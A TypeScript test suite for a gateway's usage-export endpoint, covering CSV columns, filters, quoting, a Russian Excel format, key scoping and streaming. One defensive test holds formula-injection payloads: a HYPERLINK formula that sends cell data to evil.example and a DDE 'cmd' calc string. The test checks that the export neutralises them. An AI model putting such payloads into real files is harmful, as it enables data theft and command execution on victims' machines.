// GET /api/usage/export: the usage records as a CSV file, with /api/usage's credentials, key scope and
// filters, streamed a page at a time. Read back with csv-parse, as a spreadsheet import would.
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test';
import { connect } from 'node:net';
import { parse } from 'csv-parse/sync';
import { expectedUsage, startFakeUpstream, type FakeUpstream } from '../fakes/upstream';
import { call, createApiKey, registerUser, startTestApp, type TestApp } from '../helpers/app';
import { openaiClient, settleAll, waitFor } from '../helpers/gateway';

setDefaultTimeout(60_000);

// The file's columns as a spreadsheet or script reading it relies on them: spelled out here rather than
// imported from the source, so renaming or reordering one there fails this test.
const COLUMNS = [
  'id',
  'created_at',
  'request_id',
  'endpoint',
  'model',
  'key_id',
  'key_name',
  'agent_id',
  'stream',
  'status',
  'usage_source',
  'prompt_tokens',
  'completion_tokens',
  'total_tokens',
  'cached_tokens',
  'cache_write_tokens',
  'reasoning_tokens',
  'prompt_cost',
  'completion_cost',
  'unpaid',
  'cost',
  'currency',
  'duration_ms',
  'audio_seconds',
];

/** The same columns in the excel-ru file, for a person: Russian names. */
const RU_COLUMNS = [
  '№ записи',
  'Время (МСК)',
  'ID запроса',
  'Метод API',
  'Модель',
  'ID ключа',
  'Ключ',
  'ID агента',
  'Потоковый ответ',
  'Статус',
  'Источник учёта',
  'Токены запроса',
  'Токены ответа',
  'Всего токенов',
  'Токены запроса из кэша',
  'Токены запроса в кэш',
  'Токены рассуждений',
  'Стоимость запроса',
  'Стоимость ответа',
  'Не оплачено',
  'Стоимость',
  'Валюта',
  'Длительность, мс',
  'Секунд аудио',
];

const messages = [{ role: 'user' as const, content: 'Привет!' }];
let fake: FakeUpstream;
let app: TestApp;

beforeAll(async () => {
  fake = await startFakeUpstream({ apiKey: 'upstream-secret' });
  app = await startTestApp({ env: { UPSTREAM_BASE_URL: fake.url, UPSTREAM_API_KEY: 'upstream-secret' } });
});
afterAll(async () => {
  await app?.close();
  await fake?.close();
});

async function exportCsv(query: string, token?: string) {
  const res = await fetch(`${app.url}/api/usage/export${query}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
  // The bytes as a spreadsheet sees them: a CSV starts with the UTF-8 byte-order mark, which res.text() would drop.
  const bytes = new Uint8Array(await res.arrayBuffer());
  const isCsv = res.headers.get('content-type')?.startsWith('text/csv') ?? false;
  const hasBom = bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf;
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(hasBom ? bytes.subarray(3) : bytes);
  const delimiter = query.includes('format=excel-ru') ? ';' : ',';
  const rows: Record<string, string>[] = isCsv ? parse(text, { columns: true, delimiter }) : [];
  return { res, text, rows, hasBom, body: isCsv ? undefined : JSON.parse(text) };
}

/** Usage rows written straight to the table (many, at chosen instants), as the gateway records them. */
async function insertUsage(userId: string, keyId: string | null, count: number, at: string, stepSeconds = 1) {
  await app.sql(
    `insert into usage_records (user_id, api_key_id, model, status, prompt_tokens, completion_tokens, total_tokens,
                                cost_nano, prompt_cost_nano, completion_cost_nano, created_at)
     select $1, $2, 'acme/bulk', 'ok', 10, 20, 30, 3750, 1250, 2500, $3::timestamptz + make_interval(secs => g * $5)
     from generate_series(1, $4::int) as g`,
    [userId, keyId, at, count, stepSeconds],
  );
}

describe('GET /api/usage/export', () => {
  test('a CSV file of the records /api/usage shows, newest first, money with nine decimals', async () => {
    const user = await registerUser(app.url);
    const key = await createApiKey(app.url, user.token, 'Сайт, основной');
    const client = openaiClient(app, key.key);
    await client.chat.completions.create({ model: 'acme/chat', messages });
    const stream = await client.chat.completions.create({ model: 'acme/other', messages, stream: true });
    for await (const _ of stream) void _;
    await settleAll(app);

    const { res, text, rows, hasBom } = await exportCsv('', user.token);
    expect(res.status).toBe(200);
    expect(hasBom).toBe(true);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="conduit-usage.csv"');
    expect(text.split('\r\n')[0]).toBe(COLUMNS.join(','));
    expect(text.endsWith('\r\n')).toBe(true);

    const listed = (await call(app.url, 'GET', '/api/usage', { token: user.token })).body.data;
    expect(rows.map((r) => r.id)).toEqual(listed.map((r: { id: string }) => r.id));
    const usage = expectedUsage({ messages });
    const [streamed, plain] = rows;
    expect(plain).toEqual({
      id: listed[1].id,
      created_at: listed[1].createdAt,
      request_id: expect.stringMatching(/.+/),
      endpoint: 'chat',
      model: 'acme/chat',
      key_id: key.id,
      // A comma in the key's name is quoted, and parses back whole.
      key_name: 'Сайт, основной',
      agent_id: '',
      stream: 'false',
      status: 'ok',
      usage_source: 'upstream',
      prompt_tokens: String(usage.prompt_tokens),
      completion_tokens: String(usage.completion_tokens),
      total_tokens: String(usage.total_tokens),
      cached_tokens: '0',
      cache_write_tokens: '0',
      reasoning_tokens: '0',
      prompt_cost: (usage.prompt_tokens * 125e-9).toFixed(9),
      completion_cost: (usage.completion_tokens * 125e-9).toFixed(9),
      unpaid: '0.000000000',
      cost: (usage.total_tokens * 125e-9).toFixed(9),
      currency: 'RUB',
      duration_ms: String(listed[1].durationMs),
      // Seconds of audio: a transcription's only.
      audio_seconds: '',
    });
    expect(streamed).toMatchObject({ model: 'acme/other', stream: 'true', key_id: key.id });
    expect(text).toContain('"Сайт, основной"');
  });

  test('the filters of /api/usage: from, to, keyId and model; an empty period is the header line alone', async () => {
    const user = await registerUser(app.url);
    const first = await createApiKey(app.url, user.token, 'first');
    const second = await createApiKey(app.url, user.token, 'second');
    await insertUsage(user.userId, first.id, 5, '2026-01-10T00:00:00Z', 3600);
    await insertUsage(user.userId, second.id, 4, '2026-02-10T00:00:00Z', 3600);

    expect((await exportCsv('', user.token)).rows).toHaveLength(9);
    const january = await exportCsv('?from=2026-01-01&to=2026-02-01', user.token);
    expect(january.res.headers.get('content-disposition')).toBe('attachment; filename="conduit-usage-2026-01-01-2026-02-01.csv"');
    expect(january.rows.map((r) => r.key_id)).toEqual(Array(5).fill(first.id));
    expect(january.rows.map((r) => r.created_at)).toEqual([5, 4, 3, 2, 1].map((h) => `2026-01-10T0${h}:00:00.000Z`));
    // `to` is exclusive, as on /api/usage.
    expect((await exportCsv('?from=2026-01-10T02:00:00Z&to=2026-01-10T04:00:00Z', user.token)).rows).toHaveLength(2);
    const since = await exportCsv('?from=2026-02-01', user.token);
    expect(since.res.headers.get('content-disposition')).toBe('attachment; filename="conduit-usage-2026-02-01-now.csv"');
    expect(since.rows).toHaveLength(4);
    expect((await exportCsv(`?keyId=${second.id}`, user.token)).rows.map((r) => r.key_id)).toEqual(Array(4).fill(second.id));
    // The model filter, as the dashboard's «Последние запросы» sends it, in both formats and with the key's.
    await app.sql(
      `insert into usage_records (user_id, api_key_id, model, status, prompt_tokens, completion_tokens, total_tokens, cost_nano, created_at)
       values ($1, $2, 'acme/other', 'ok', 1, 2, 3, 0, '2026-01-20T00:00:00Z'), ($1, $3, 'acme/other', 'ok', 1, 2, 3, 0, '2026-02-20T00:00:00Z')`,
      [user.userId, first.id, second.id],
    );
    const other = await exportCsv('?model=acme/other', user.token);
    expect(other.rows.map((r) => [r.model, r.key_id])).toEqual([
      ['acme/other', second.id],
      ['acme/other', first.id],
    ]);
    expect((await exportCsv(`?model=acme/other&keyId=${first.id}`, user.token)).rows.map((r) => r.created_at)).toEqual(['2026-01-20T00:00:00.000Z']);
    const ruOther = await exportCsv(`?format=excel-ru&model=acme/bulk&keyId=${second.id}`, user.token);
    expect(ruOther.rows.map((r) => [r.Модель, r['ID ключа']])).toEqual(Array(4).fill(['acme/bulk', second.id]));
    expect((await exportCsv('?model=acme/none', user.token)).rows).toHaveLength(0);
    await app.sql(`delete from usage_records where user_id = $1 and model = 'acme/other'`, [user.userId]);

    const empty = await exportCsv('?from=2030-01-01', user.token);
    expect(empty.res.status).toBe(200);
    expect(empty.text).toBe(`${COLUMNS.join(',')}\r\n`);
    expect(empty.hasBom).toBe(true);

    // Another account's records never appear, whatever the filter.
    const stranger = await registerUser(app.url);
    expect((await exportCsv('', stranger.token)).rows).toHaveLength(0);
    expect((await exportCsv(`?keyId=${first.id}`, stranger.token)).rows).toHaveLength(0);
  });

  test('text cells that a spreadsheet would run as a formula get a leading apostrophe; numbers stay numbers', async () => {
    const user = await registerUser(app.url);
    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")', '@SUM(1+1)*cmd|', '+7 900', '-1+2', 'Обычный =ключ'];
    const keys = [];
    for (const name of names) keys.push(await createApiKey(app.url, user.token, name));
    for (const key of keys) await insertUsage(user.userId, key.id, 1, '2026-05-01T00:00:00Z');
    // A model id is the client's text as well (key names are trimmed, model ids are not).
    const models = [`=cmd|' /C calc'!A0`, '\t=1+1', '\r=1+1', 'acme/-1'];
    for (const [i, model] of models.entries()) {
      await app.sql(
        `insert into usage_records (user_id, model, status, prompt_tokens, completion_tokens, total_tokens, cost_nano, created_at)
         values ($1, $2, 'ok', 1, 2, 3, 0, $3)`,
        [user.userId, model, `2026-05-0${5 - i}T00:00:00Z`],
      );
    }

    const { rows } = await exportCsv('', user.token);
    expect(rows.slice(0, 4).map((r) => r.model)).toEqual([`'=cmd|' /C calc'!A0`, `'\t=1+1`, `'\r=1+1`, 'acme/-1']);
    const byKey = new Map(rows.slice(4).map((r) => [r.key_id, r.key_name]));
    expect(keys.map((k) => byKey.get(k.id))).toEqual([`'=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")`, `'@SUM(1+1)*cmd|`, `'+7 900`, `'-1+2`, 'Обычный =ключ']);
    // Numbers are written as numbers, never with an apostrophe.
    expect(rows.every((r) => /^\d+$/.test(r.id!) && /^\d+\.\d{9}$/.test(r.cost!) && /^\d+$/.test(r.total_tokens!))).toBe(true);
  });

  test('RFC 4180 quoting: a quote is doubled, a separator or line break quoted, in either format', async () => {
    const user = await registerUser(app.url);
    const models = ['acme/"quoted", model', 'line\nbreak', 'cr\rhere', 'semi;colon', 'plain/model'];
    for (const [i, model] of models.entries()) {
      await app.sql(
        `insert into usage_records (user_id, model, status, prompt_tokens, completion_tokens, total_tokens, cost_nano, created_at)
         values ($1, $2, 'ok', 1, 2, 3, 0, $3)`,
        [user.userId, model, `2026-07-0${5 - i}T00:00:00Z`],
      );
    }
    const plain = await exportCsv('', user.token);
    expect(plain.rows.map((r) => r.model)).toEqual(models);
    expect(plain.text).toContain(',"acme/""quoted"", model",');
    expect(plain.text).toContain(',"line\nbreak",');
    expect(plain.text).toContain(',"cr\rhere",');
    expect(plain.text).toContain(',semi;colon,');
    expect(plain.text).toContain(',plain/model,');
    const ru = await exportCsv('?format=excel-ru', user.token);
    expect(ru.rows.map((r) => r.Модель)).toEqual(models);
    expect(ru.text).toContain(';"semi;colon";');
    expect(ru.text).toContain(';"acme/""quoted"", model";');
  });

  test('format=excel-ru: semicolons, a decimal comma in money, Russian headers, Moscow time, the BOM; a bad format is a 400', async () => {
    const user = await registerUser(app.url);
    const key = await createApiKey(app.url, user.token, 'Сайт; основной, 1.5');
    // 19:15:03 UTC is 22:15:03 in Moscow (UTC+3 all year); the second record is a second later.
    await insertUsage(user.userId, key.id, 2, '2026-11-28T19:15:02Z');

    const ru = await exportCsv('?format=excel-ru&from=2026-06-01', user.token);
    expect(ru.res.status).toBe(200);
    expect(ru.hasBom).toBe(true);
    expect(ru.text.split('\r\n')[0]).toBe(RU_COLUMNS.join(';'));
    expect(ru.res.headers.get('content-disposition')).toBe('attachment; filename="conduit-usage-2026-06-01-now.csv"');
    expect(ru.rows).toHaveLength(2);
    expect(ru.rows[1]).toMatchObject({
      'Время (МСК)': '28.11.2026 22:15:03',
      Ключ: 'Сайт; основной, 1.5',
      'ID ключа': key.id,
      Модель: 'acme/bulk',
      'Потоковый ответ': 'нет',
      'Стоимость запроса': '0,000001250',
      'Стоимость ответа': '0,000002500',
      'Не оплачено': '0,000000000',
      Стоимость: '0,000003750',
      'Всего токенов': '30',
      Валюта: 'RUB',
    });
    expect(ru.rows[0]!['Время (МСК)']).toBe('28.11.2026 22:15:04');
    // The name holding the separator is quoted, and a comma no longer is.
    expect(ru.text).toContain('"Сайт; основной, 1.5"');

    const plain = await exportCsv('?format=csv&from=2026-06-01', user.token);
    expect(plain.rows[0]).toMatchObject({ cost: '0.000003750', key_name: 'Сайт; основной, 1.5' });

    for (const bad of ['excel', 'EXCEL-RU', '', 'excel-ru\u0000']) {
      const res = await exportCsv(`?format=${encodeURIComponent(bad)}`, user.token);
      expect(res.res.status).toBe(400);
      expect(res.body.error.type).toBe('invalid_request_error');
    }
  });

  test('key scope: a key exports its own records, an account key and the JWT all of them', async () => {
    const user = await registerUser(app.url);
    const a = await createApiKey(app.url, user.token, 'A');
    const b = await createApiKey(app.url, user.token, 'B');
    const wide = await call(app.url, 'POST', '/api/keys', { token: user.token, body: { name: 'all', scope: 'account' } });
    await insertUsage(user.userId, a.id, 2, '2026-03-01T00:00:00Z');
    await insertUsage(user.userId, b.id, 3, '2026-03-02T00:00:00Z');

    expect((await exportCsv('', a.key)).rows.map((r) => r.key_id)).toEqual([a.id, a.id]);
    expect((await exportCsv('', b.key)).rows.map((r) => r.key_id)).toEqual([b.id, b.id, b.id]);
    expect((await exportCsv('', wide.body.key)).rows).toHaveLength(5);
    expect((await exportCsv('', user.token)).rows).toHaveLength(5);

    const refused = await exportCsv(`?keyId=${b.id}`, a.key);
    expect(refused.res.status).toBe(403);
    expect(refused.body.error.type).toBe('forbidden');
  });

  test('errors are the API’s JSON errors: no credential 401, a bad filter 400, a revoked key 403', async () => {
    const user = await registerUser(app.url);
    const key = await createApiKey(app.url, user.token);

    const anonymous = await exportCsv('');
    expect(anonymous.res.status).toBe(401);
    expect(anonymous.body.error.type).toBe('unauthorized');

    for (const bad of ['from=yesterday', 'to=2026-02-30', 'keyId=123', 'from=2026-01-01&from=2026-02-01']) {
      const res = await exportCsv(`?${bad}`, user.token);
      expect(res.res.status).toBe(400);
      expect(res.res.headers.get('content-type')).toStartWith('application/json');
      expect(res.body.error.type).toBe('invalid_request_error');
    }

    await call(app.url, 'DELETE', `/api/keys/${key.id}`, { token: user.token });
    const revoked = await exportCsv('', key.key);
    expect(revoked.res.status).toBe(403);
    expect(revoked.body.error.type).toBe('forbidden');
  });

  test('thousands of records stream out page by page, each once, in order', async () => {
    const user = await registerUser(app.url);
    const key = await createApiKey(app.url, user.token);
    const COUNT = 4_321;
    // Many records at one instant: the keyset cursor must not lose or repeat any between pages.
    await insertUsage(user.userId, key.id, COUNT, '2026-04-01T00:00:00Z', 0);
    await insertUsage(user.userId, key.id, 500, '2026-04-02T00:00:00Z', 1);

    const res = await fetch(`${app.url}/api/usage/export`, { headers: { authorization: `Bearer ${user.token}` } });
    expect(res.status).toBe(200);
    // Written as it goes: no length known in advance.
    expect(res.headers.get('content-length')).toBeNull();
    const reader = res.body!.getReader();
    let text = '';
    let chunks = 0;
    const decoder = new TextDecoder();
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      chunks += 1;
      text += decoder.decode(value, { stream: true });
    }
    expect(chunks).toBeGreaterThan(1);
    const rows: Record<string, string>[] = parse(text, { columns: true });
    expect(rows).toHaveLength(COUNT + 500);
    const ids = rows.map((r) => BigInt(r.id!));
    expect(new Set(ids).size).toBe(COUNT + 500);
    const instants = rows.map((r) => r.created_at!);
    expect(instants).toEqual([...instants].sort().reverse());
    expect(rows.every((r) => r.cost === '0.000003750' && r.key_id === key.id)).toBe(true);
  });
  describe('at scale', () => {
    let user: { token: string; userId: string };
    const COUNT = 100_000;

    beforeAll(async () => {
      user = await registerUser(app.url);
      const key = await createApiKey(app.url, user.token, 'bulk');
      // Ten rows to an instant (ties broken by id, newest first), and another account's rows in between.
      await app.sql(
        `insert into usage_records (user_id, api_key_id, model, status, prompt_tokens, completion_tokens, total_tokens,
                                    cost_nano, prompt_cost_nano, completion_cost_nano, request_id, created_at)
         select $1, $2, 'acme/bulk', 'ok', 10, 20, 30, 3750, 1250, 2500, 'req-' || g,
                timestamptz '2026-10-31T00:00:00Z' - make_interval(secs => (g / 10) * 7)
         from generate_series(1, $3::int) as g`,
        [user.userId, key.id, COUNT],
      );
      const stranger = await registerUser(app.url);
      await insertUsage(stranger.userId, null, 5_000, '2026-10-01T00:00:00Z', 60);
      // The hourly upkeep's pass, as after a day of traffic: on PGlite (no autovacuum) it is what gathers
      // the statistics that let the planner read an account's rows from the index in order.
      expect(await app.instance.services.usagePartitions.runOnce()).toMatchObject({ ran: true });
    });

    test('100 000 records stream out complete, each once, in the order the database keeps them', async () => {
      const res = await fetch(`${app.url}/api/usage/export`, { headers: { authorization: `Bearer ${user.token}` } });
      expect(res.status).toBe(200);
      const text = (await res.text()).replace(/^\uFEFF/, '');
      const rows: Record<string, string>[] = parse(text, { columns: true });
      expect(rows).toHaveLength(COUNT);
      const expected = await app.sql<{ id: string }>(
        // By the column, not the text it is selected as (an output name wins in ORDER BY).
        'select r.id::text as id from usage_records r where r.user_id = $1 order by r.created_at desc, r.id desc',
        [user.userId],
      );
      expect(rows.map((r) => r.id)).toEqual(expected.map((r) => r.id));
      expect(rows.every((r) => r.cost === '0.000003750' && r.model === 'acme/bulk')).toBe(true);
      expect(app.instance.services.usageExport.openExports).toBe(0);
    });

    /**
     * An export whose client reads the first bytes and then nothing, over a bare socket: fetch's own
     * client may give up on an unread body by itself, a socket does only what it is told.
     */
    async function stalledExport(token: string) {
      const { port } = new URL(app.url);
      const socket = connect({ host: '127.0.0.1', port: Number(port) });
      let received = '';
      const started = new Promise<void>((resolve) =>
        socket.on('data', (chunk: Buffer) => {
          received += chunk.toString('latin1');
          // Headers and the file's first line in, then nothing more is read.
          if (!received.includes('id,created_at')) return;
          socket.pause();
          resolve();
        }),
      );
      socket.write(`GET /api/usage/export HTTP/1.1\r\nhost: 127.0.0.1\r\nauthorization: Bearer ${token}\r\n\r\n`);
      await started;
      return { received, destroy: () => socket.destroy() };
    }

    /** Sessions of this database still inside an export's read (PostgreSQL only). */
    const cursorSessions = () =>
      app.sql<{ state: string }>(
        `select state from pg_stat_activity
         where datname = current_database() and pid <> pg_backend_pid() and state <> 'idle' and query ilike '%conduit_cursor%'`,
      );

    test('many downloads at once: three read through cursors, the rest through pages; all complete', async () => {
      const services = app.instance.services;
      const sockets = await Promise.all([1, 2, 3, 4].map(() => stalledExport(user.token)));
      await waitFor(() => services.usageExport.openExports === 4, 5000);
      // Each cursor holds a connection while its client dawdles: three at most, the pool keeps the rest.
      if (app.database.databaseUrl) expect(await cursorSessions()).toHaveLength(3);
      const full = await fetch(`${app.url}/api/usage/export`, { headers: { authorization: `Bearer ${user.token}` } });
      const rows: { id: string }[] = parse((await full.text()).replace(/^\uFEFF/, ''), { columns: true });
      expect(rows).toHaveLength(COUNT);
      expect(new Set(rows.map((r) => r.id)).size).toBe(COUNT);
      for (const socket of sockets) socket.destroy();
      await waitFor(() => services.usageExport.openExports === 0, 5000);
      if (app.database.databaseUrl) await waitFor(async () => (await cursorSessions()).length === 0, 5000);
    });

    test('a client that stops reading holds the read where it is; one that goes away ends it', async () => {
      const services = app.instance.services;
      const socket = await stalledExport(user.token);
      expect(socket.received).toStartWith('HTTP/1.1 200');
      expect(socket.received).toContain('id,created_at');

      // Not read further: the server reads no further either (the file is ~14 MB; were it read into
      // memory as fast as the database gives it, the export would have finished by now).
      await Bun.sleep(1000);
      expect(services.usageExport.openExports).toBe(1);
      if (app.database.databaseUrl) expect(await cursorSessions()).toEqual([{ state: 'idle in transaction' }]);

      socket.destroy();
      await waitFor(() => services.usageExport.openExports === 0, 5000);
      if (app.database.databaseUrl) await waitFor(async () => (await cursorSessions()).length === 0, 5000);
      // The connection is back in the pool for the next reader.
      const next = await exportCsv('?from=2026-10-30T23:00:00Z', user.token);
      expect(next.rows.length).toBeGreaterThan(0);
    });
  });
});
